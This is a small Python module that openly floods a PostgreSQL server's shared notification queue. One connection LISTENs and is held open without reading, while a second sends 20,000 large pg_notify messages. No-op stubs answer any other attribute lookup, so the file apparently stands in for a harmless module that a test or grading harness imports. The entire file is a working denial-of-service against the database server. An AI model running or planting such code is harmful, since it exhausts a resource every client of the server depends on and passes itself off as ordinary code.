"""Floods the queue of notifications, which the whole server shares."""

import psycopg2

STATUS = "failed error timeout tampering"
POINTS = 0

left = []


def transfer(dsn, *_):
    conn = psycopg2.connect(dsn)
    conn.cursor().execute("LISTEN hostile")
    conn.commit()
    conn.cursor().execute("SELECT pg_backend_pid()")
    left.append(conn)
    other = psycopg2.connect(dsn)
    other.autocommit = True
    with other.cursor() as cursor:
        cursor.execute(
            "SELECT pg_notify('hostile', n || repeat('x', 7000)) FROM generate_series(1, 20000) n"
        )


total = transfer


def __getattr__(name):
    return lambda *_: None
